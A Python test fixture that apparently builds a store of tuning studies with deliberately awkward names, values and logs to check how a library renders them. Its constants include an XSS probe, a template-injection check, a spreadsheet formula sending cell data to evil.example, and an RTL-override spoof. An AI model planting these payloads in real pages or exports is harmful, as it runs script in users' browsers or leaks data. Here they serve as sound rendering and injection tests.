"""A store of studies that are hard to show: what is in them is odd, long, endless, missing, or wants to be markup."""

from __future__ import annotations

import math
from collections.abc import Mapping, Sequence
from pathlib import Path

import luthier as lt
from luthier.space import Scalar
from luthier.store.base import Store
from luthier.store.url import open_store
from luthier.study import (
    Budget,
    Completed,
    Constraint,
    Failed,
    Fidelity,
    Named,
    Objective,
    Outcome,
    Problem,
    Proposal,
    Record,
    Report,
    Stopped,
    StudySpec,
)

HTML = "<script>document.title='broken'<\\script><img src=x onerror=alert(1)>\"'><b>{{7*7}}</b> {0} %s"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
RIGHT = "שלום \u202eevil\u202c مرحبا"
EMOJI = "🎻👩‍🔬🏳️‍🌈 ﷽ Z̷̧͎a̶l̸g̵o̷"
LONG = "long_" + "x" * 295
LONG_WORDS = " ".join(["very long name"] * 20)
ODD = (HTML, FORMULA, RIGHT, EMOJI, LONG, LONG_WORDS)
VALUES = (math.inf, -math.inf, math.nan, 1e308, -1e-308, 0.0, 1, 0.1 + 0.2)
MODEL = "m <b>model<b> &amp; " + EMOJI
MANY = 2000

Row = tuple[Mapping[str, Scalar], Sequence[Report], Outcome | None]
"""A trial: its parameters, what it reported, and how it ended."""
ONE_OF_EACH = (None, "", " ", True, 0, 0.5, "0.5", "None", HTML, FORMULA, RIGHT, EMOJI, LONG)
"""Values of one parameter, of all kinds."""


def _fill(
    store: Store,
    name: str,
    problem: Problem,
    trials: Sequence[Row],
    end: str | None = None,
) -> None:
    about = {"function": HTML, "data": {"rows": math.pi, "name": LONG}, "note": RIGHT}
    store.create(StudySpec(name, problem, Named("random"), budget=Budget(trials=5000), about=about))
    for start in range(0, len(trials), 500):
        part = trials[start : start + 500]
        proposals = [Proposal(dict(params), tag={"by": "random", "why": HTML}) for params, _, _ in part]
        made = store.propose(name, proposals, claim=(f"{EMOJI}/1/2/3", 1e9))
        said: list[Record] = []
        for trial, (_, reports, outcome) in zip(made, part, strict=True):
            said += [Record(trial.number, 1, report) for report in reports]
            if outcome is not None:
                said.append(Record(trial.number, 1, outcome))
        store.record(name, said)
    if end is not None:
        store.end(name, EMOJI, end)


def _model(path: Path) -> None:
    """A model that is saved, of a table whose columns and classes are odd."""
    import numpy as np
    import pandas as pd
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    table = pd.DataFrame(
        {name: rng.random(40) for name in ODD} | {"text": [EMOJI, HTML, FORMULA, RIGHT] * 10}
    )
    y = pd.Series([HTML, LONG] * 20, name=RIGHT)
    tree = lt.CrossValidation(DecisionTreeClassifier(), table, y, cv=2, holdout=0.2)
    lt.tune(
        tree,
        {"max_depth": lt.Int(1, 3)},
        trials=2,
        name=MODEL.replace("/", "|"),
        store=str(path),
        progress=False,
    )


def _loss(goal: str = "min") -> tuple[Objective, ...]:
    return (Objective("loss", "min" if goal == "min" else "max"),)


def make(path: Path) -> list[str]:
    """Fill a store; the names of its studies."""
    store = open_store(str(path))
    plain = lt.Space(x=lt.Float(0, 1))

    odd = lt.Space(
        {name: lt.Float(0, 1) for name in ODD}
        | {"mixed": lt.Choice(*ONE_OF_EACH), "tiny": lt.Float(1e-300, 1e300, log=True)}
    )
    point: dict[str, Scalar] = {**dict.fromkeys(ODD, 0.5), "mixed": None, "tiny": 1e-300}
    trace = f'Traceback\n  File "{HTML}.py", line 3, in {EMOJI}\n{LONG}\n{FORMULA}'
    _fill(
        store,
        HTML.replace("/", "|"),
        Problem(odd, (Objective(HTML, "max"),)),
        [
            (point | {"mixed": value, "tiny": 10.0 ** (20 * i - 100)}, [Report(0, {HTML: float(i)})], outcome)
            for i, value in enumerate(ONE_OF_EACH)
            for outcome in (
                Completed({HTML: VALUES[i % len(VALUES)], FORMULA: math.nan, LONG: math.inf}),
                Failed(f"{HTML} {i}", trace) if i % 2 else Failed("", None),
                Stopped(f"{FORMULA} {RIGHT}"),
                None,
            )
        ],
        f"stopped: {HTML}",
    )
    _fill(store, "nothing yet", Problem(plain, _loss()), [])
    _fill(store, LONG, Problem(plain, _loss("max")), [({"x": 0.5}, [], Completed({"loss": -0.0}))])
    _fill(store, " blanks ", Problem(plain, _loss()), [({"x": 0.5}, [], None)])
    same: list[Row] = [({"x": 0.5}, [], Completed({"loss": 1.0}))] * 30
    _fill(store, LONG_WORDS[:290], Problem(plain, _loss()), same)
    values: list[Row] = [({"x": i / 40}, [], Completed({"loss": VALUES[i % len(VALUES)]})) for i in range(40)]
    _fill(store, f"{EMOJI} ?#&%2F..;=", Problem(plain, _loss()), values)
    nans: list[Row] = [({"x": i / 20}, [], Completed({"loss": math.nan})) for i in range(20)]
    _fill(store, RIGHT, Problem(plain, _loss()), nans)
    failed: list[Row] = [
        ({"x": 0.5}, [], Failed(HTML, trace)),
        ({"x": 0.1}, [], Failed("ValueError: x", None)),
    ] * 10
    _fill(store, FORMULA.replace("/", "|"), Problem(plain, _loss()), failed, "failed: too many failures")

    many: list[Row] = [
        (
            {"x": i / MANY},
            [],
            Failed(f"MemoryError: cannot take {i} bytes", f'File "a.py", line 3, in f\n{i}'),
        )
        if i % 10
        else ({"x": i / MANY}, [], Completed({"loss": float(i)}))
        for i in range(MANY)
    ]
    _fill(store, "thousands of failures", Problem(plain, _loss()), many)

    wide = lt.Space({f"parameter_{i}": lt.Float(0, 1) for i in range(60)})
    points = [{name: (i * 7 + k) % 30 / 30 for k, name in enumerate(wide)} for i in range(30)]
    _fill(
        store,
        "sixty",
        Problem(wide, _loss()),
        [(dict[str, Scalar](p), [], Completed({"loss": p["parameter_0"]})) for p in points],
    )

    several = Problem(
        plain,
        (Objective("loss", "min"), Objective(HTML, "max"), Objective(LONG, "min", noisy=True)),
        (Constraint("size", high=10.0), Constraint(RIGHT, low=0.0)),
    )
    metrics: list[dict[str, float]] = [
        {
            "loss": i / 20,
            HTML: VALUES[i % len(VALUES)],
            LONG: -float(i),
            "size": float(i),
            RIGHT: float(i % 3 - 1),
        }
        for i in range(20)
    ]
    _fill(store, "several", several, [({"x": i / 20}, [], Completed(one)) for i, one in enumerate(metrics)])

    curved = Problem(plain, _loss(), fidelity=Fidelity("epochs", 1, 81))
    curves = [
        (
            {"x": i / 60},
            [Report(step, {"loss": (1 + i % 7) / step if i % 11 else math.nan, "other": math.inf}) for step in range(1, 82, 2)],
            (Completed({"loss": float(1 + i % 7)}), Stopped("worse than the median"), None)[i % 3],
        )
        for i in range(60)
    ]  # fmt: skip
    _fill(store, "curves", curved, curves)

    _model(path)
    names = list(store.cursors())
    log = path.parent / "work" / "curves" / "0" / "1" / "output.log"
    log.parent.mkdir(parents=True)
    log.write_bytes(b"\x1b[31mred\x1b[0m \x00 \xff\xfe " + HTML.encode() + b"\n" + b"x" * 5000 + b"\n" * 300)
    store.close()
    return names
